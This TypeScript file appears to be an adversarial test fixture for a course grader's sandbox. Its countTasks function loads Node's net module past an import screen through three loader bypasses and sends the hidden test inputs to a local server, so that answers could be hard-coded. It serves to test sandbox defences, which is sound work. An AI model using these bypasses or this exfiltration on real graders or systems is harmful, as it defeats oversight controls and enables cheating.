/**
 * Adversarial submission 'network-exfiltration' (graded by test/grading/adversarial.test.ts): the reference
 * solution of chapter 01 with countTasks altered.
 *
 * countTasks gets the net module around the import screen (require.main.require,
 * Module._load, process.getBuiltinModule) and sends its arguments, the hidden inputs among them, to a server on
 * 127.0.0.1 (the port is in attack.json beside this file). Node's permission model does not cover the network.
 * With the hidden inputs, a student can hard-code the hidden answers in the next submission. Expected: no
 * byte reaches the server; countTasks's cases are errors.
 */

import { makeLearner, type LearnerName } from 'nasbook';

import * as fs from 'fs';
import * as path from 'path';

/** Where this attack may leave traces (written beside this file by the test), with defaults. */
function attackConfig(): { markerDir: string; port: number } {
  try {
    return JSON.parse(fs.readFileSync(path.join(__dirname, 'attack.json'), 'utf8')) as { markerDir: string; port: number };
  } catch {
    return { markerDir: '/tmp', port: 47651 };
  }
}

function messageOf(e: unknown): string {
  return e instanceof Error ? e.message : String(e);
}
type NetModule = typeof import('net');

/** The attack: phone home with the inputs; answer only if the call went through. */
export async function countTasks(xSize: number, ySize: number): Promise<number> {
  const { port } = attackConfig();
  const failures: string[] = [];
  const loaders: [string, () => unknown][] = [
    ['require.main.require', () => require.main!.require('net')],
    ['Module._load', () => (module.constructor as unknown as { _load(r: string, p: null, m: boolean): unknown })._load('net', null, false)],
    ['process.getBuiltinModule', () => (process as unknown as { getBuiltinModule(n: string): unknown }).getBuiltinModule('net')],
  ];
  for (const [how, load] of loaders) {
    try {
      const net = load() as NetModule;
      await new Promise<void>((resolve, reject) => {
        const socket: import('net').Socket = net.connect(port, '127.0.0.1', () => socket.end(`${how} countTasks ${JSON.stringify([xSize, ySize])}\n`, () => resolve()));
        socket.on('error', reject);
        socket.setTimeout(1000, () => reject(new Error('no answer')));
      });
      return ySize ** xSize;
    } catch (e) {
      failures.push(`${how}: ${messageOf(e)}`);
    }
  }
  throw new Error(`no way out: ${failures.join('; ')}`);
}
